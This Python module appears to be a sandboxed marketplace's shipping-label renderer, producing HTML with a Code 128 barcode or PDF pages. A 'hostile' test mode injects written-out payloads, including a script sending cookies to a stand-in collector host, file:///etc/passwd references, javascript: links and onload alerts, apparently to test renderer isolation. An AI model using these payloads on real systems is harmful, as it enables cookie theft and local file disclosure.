"""The marketplace's «Маркировочный лист»: HTML with a barcode picture, or a PDF of 75 x 120 mm pages."""

from __future__ import annotations

import base64
import io
import struct
import threading
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from html import escape
from importlib import resources
from typing import Final

from reportlab.lib.units import mm
from reportlab.lib.utils import simpleSplit
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

PAGE_MM = (75, 120)
QUIET_MODULES = 10
_NORMAL, _BOLD = "SandboxSans", "SandboxSans-Bold"

# Element widths of the symbols 0-105 of ISO/IEC 15417: bar, space, bar, space, bar, space.
_ELEMENTS: Final = (
    "212222222122222221121223121322131222122213122312132212221213221312231212112232122132122231113222"
    "123122123221223211221132221231213212223112312131311222321122321221312212322112322211212123212321"
    "232121111323131123131321112313132113132311211313231113231311112133112331132131113123113321133121"
    "313121211331231131213113213311213131311123311321331121312113312311332111314111221411431111111224"
    "111422121124121421141122141221112214112412122114122411142112142211241211221114413111241112134111"
    "111242121142121241114212124112124211411212421112421211212141214121412121111143111341131141114113"
    "114311411113411311113141114131311141411131211412211214211232"
)
_WIDTHS: Final = [_ELEMENTS[at : at + 6] for at in range(0, len(_ELEMENTS), 6)]
_STOP_WIDTHS: Final = "2331112"
_TO_C, _TO_B, _START_B, _START_C = 99, 100, 104, 105


@dataclass(frozen=True, slots=True)
class Label:
    """What one marking sheet says; the date is text as the API writes it."""

    merchant_name: str
    merchant_id: int
    shipment_id: str
    delivery_id: str
    full_name: str
    region: str
    city: str
    address: str
    delivery_type: str
    shipping_date: str
    box_code: str
    place: int
    places: int

    def lines(self) -> tuple[tuple[str, str], ...]:
        return (
            ("Продавец", f"{self.merchant_name} ({self.merchant_id})"),
            ("Отправление", self.shipment_id),
            ("Доставка", f"{self.delivery_id}, {self.delivery_type}"),
            ("Дата отгрузки", self.shipping_date[:10]),
            ("Получатель", self.full_name),
            ("Регион", self.region),
            ("Адрес", self.address),
        )


def code128_symbols(payload: str) -> list[int]:
    """Code 128 symbol values in sets B and C with start and check, without stop; raises ValueError."""
    if not payload or not all(" " <= letter <= "~" for letter in payload):
        raise ValueError(f"Code 128 set B cannot write {payload!r}")
    symbols = min((_encoded(payload, 0, start) for start in (_START_B, _START_C)), key=len)
    check = symbols[0] + sum(place * symbol for place, symbol in enumerate(symbols))
    return [*symbols, check % 103]


def code128_modules(payload: str) -> str:
    """Bars as "1" and spaces as "0", from the first bar to the last, quiet zones not included."""
    widths = "".join(_WIDTHS[symbol] for symbol in code128_symbols(payload)) + _STOP_WIDTHS
    return "".join(("1", "0")[place % 2] * int(width) for place, width in enumerate(widths))


def barcode_png(payload: str, *, module: int = 3, height: int = 120) -> bytes:
    """A one-bit PNG with quiet zones; `module` and `height` in pixels."""
    quiet = "0" * QUIET_MODULES
    dark = (quiet + code128_modules(payload) + quiet).translate(str.maketrans("01", "10"))
    pixels = "".join(bit * module for bit in dark)
    packed = int(pixels.ljust(-(-len(pixels) // 8) * 8, "1"), 2)
    row = b"\0" + packed.to_bytes(-(-len(pixels) // 8), "big")
    head = struct.pack(">IIBBBBB", len(pixels), height, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(row * height, 9)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, content) for kind, content in parts)


def draw_html(labels: Sequence[Label], *, hostile: bool = False) -> str:
    """One document with every label; each hostile one also tries scripts, the network and local files."""
    head = f"<meta charset='utf-8'><title>Маркировочный лист</title><style>{_STYLE}</style>"
    if hostile:
        head += _HOSTILE_HEAD
    bait = _HOSTILE_BODY if hostile else ""
    body = "".join(_sheet(label, bait) for label in labels)
    return f"<!DOCTYPE html><html lang='ru'><head>{head}</head><body>{body}</body></html>"


def draw_pdf(labels: Sequence[Label]) -> bytes:
    """One 75 x 120 mm page a label."""
    _register_fonts()
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=(PAGE_MM[0] * mm, PAGE_MM[1] * mm), pageCompression=1, invariant=1)
    canvas.setTitle("Маркировочный лист")
    for label in labels:
        _draw_page(canvas, label)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def _encoded(payload: str, place: int, start: int) -> list[int]:
    """Symbols from a start character on, switching to set C for long runs of digits."""
    symbols, in_c = [start], start == _START_C
    while place < len(payload):
        digits = _digit_run(payload, place)
        if in_c and digits < 2:
            symbols.append(_TO_B)
            in_c = False
        elif not in_c and digits >= 4:
            if digits % 2:
                symbols.append(ord(payload[place]) - 32)
                place += 1
            symbols.append(_TO_C)
            in_c = True
        elif in_c:
            symbols.append(int(payload[place : place + 2]))
            place += 2
        else:
            symbols.append(ord(payload[place]) - 32)
            place += 1
    return symbols


def _digit_run(payload: str, place: int) -> int:
    end = place
    while end < len(payload) and payload[end].isdecimal():
        end += 1
    return end - place


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _sheet(label: Label, bait: str) -> str:
    picture = base64.b64encode(barcode_png(label.box_code)).decode()
    rows = "".join(f"<tr><th>{name}</th><td>{escape(value)}</td></tr>" for name, value in label.lines())
    return (
        "<div class='sheet'><h1>Маркировочный лист</h1>"
        f"<img class='code' alt='{escape(label.box_code, quote=True)}' src='data:image/png;base64,{picture}'>"
        f"<p class='number'>{escape(label.box_code)}</p><table>{rows}</table>"
        f"<p class='place'>Место {label.place} из {label.places}</p>{bait}</div>"
    )


_STYLE = (
    "@page{size:75mm 120mm;margin:0}body{margin:0;font-family:'DejaVu Sans',Arial,sans-serif;font-size:9pt}"
    ".sheet{width:75mm;height:120mm;padding:3mm;box-sizing:border-box;page-break-after:always}"
    "h1{font-size:12pt;text-align:center;margin:0 0 2mm}"
    ".code{display:block;max-width: 100%;height:22mm;margin:auto}"
    ".number{text-align:center;font-size:10pt;margin:1mm 0 2mm}table{width:100%;border-collapse:collapse}"
    "th{text-align:left;font-weight:normal;color:#444;padding-right:2mm;white-space:nowrap;vertical-align:top}"
    ".place{font-size:14pt;font-weight:bold;text-align:center;margin:2mm 0 0}"
)
_HOSTILE_HEAD = (
    "<script>document.title='changed';new Image().src='http://collector.example.org/s?'+document.cookie</script>"
    "<link rel='stylesheet' href='http://collector.example.org/style.css'>"
    "<style>@import url('http://collector.example.org/import.css');body{background:url(file:///etc/hostname)}</style>"
    "<meta http-equiv='refresh' content='1;url=http://collector.example.org/refresh'>"
)
_HOSTILE_BODY = (
    "<img src='http://collector.example.org/pixel.png' onerror=\"alert('label')\">"
    "<img src='file:///etc/passwd'><img src='//collector.example.org/relative.png'>"
    "<iframe src='http://collector.example.org/frame'></iframe><object data='file:///etc/passwd'></object>"
    "<a href='file:///etc/passwd'>file</a><a href='javascript:alert(1)'>script</a>"
    "<form action='http://collector.example.org/form'><input name='buyer'></form>"
    "<svg onload='alert(1)'><image href='http://collector.example.org/svg.png'/></svg>"
)

_DOT: Final[float] = 72 / 203
_LINE: Final[float] = 4 * mm
_GAP: Final[float] = 1.5 * mm
_fonts_lock = threading.Lock()


def _register_fonts() -> None:
    with _fonts_lock:
        if _BOLD in pdfmetrics.getRegisteredFontNames():
            return
        folder = resources.files("resources") / "fonts"
        for name, file_name in ((_NORMAL, "DejaVuSans.ttf"), (_BOLD, "DejaVuSans-Bold.ttf")):
            pdfmetrics.registerFont(TTFont(name, io.BytesIO((folder / file_name).read_bytes())))


def _draw_page(canvas: Canvas, label: Label) -> None:
    width, height = PAGE_MM
    canvas.setFont(_BOLD, 12)
    canvas.drawCentredString(width / 2 * mm, (height - 8) * mm, "Маркировочный лист")
    _draw_barcode(canvas, label.box_code, (height - 34) * mm)
    canvas.setFont(_NORMAL, 10)
    canvas.drawCentredString(width / 2 * mm, (height - 39) * mm, label.box_code)
    bottom = (height - 46) * mm
    for name, value in label.lines():
        bottom = _draw_line(canvas, name, value, bottom)
    canvas.setFont(_BOLD, 14)
    canvas.drawCentredString(width / 2 * mm, 5 * mm, f"Место {label.place} из {label.places}")


def _draw_barcode(canvas: Canvas, payload: str, bottom: float) -> None:
    modules = code128_modules(payload)
    wide = len(modules) + 2 * QUIET_MODULES
    # Two dots of a 203 dpi printer, on its grid; only a very long order code needs less.
    module = min(2 * _DOT, PAGE_MM[0] * mm / wide)
    left = round((PAGE_MM[0] * mm - len(modules) * module) / 2 / _DOT) * _DOT
    place = 0
    for bar in modules.replace("01", "0,1").split(","):
        dark = bar.rstrip("0")
        canvas.rect(left + place * module, bottom, len(dark) * module, 22 * mm, stroke=0, fill=1)
        place += len(bar)


def _draw_line(canvas: Canvas, name: str, value: str, top: float) -> float:
    """Return where the next line starts."""
    bottom = top
    canvas.setFont(_NORMAL, 7)
    canvas.drawString(4 * mm, bottom, name)
    canvas.setFont(_BOLD, 8)
    for line in simpleSplit(value, _BOLD, 8, (PAGE_MM[0] - 32) * mm)[:4]:
        canvas.drawString(28 * mm, bottom, line)
        bottom -= _LINE
    return bottom - _GAP
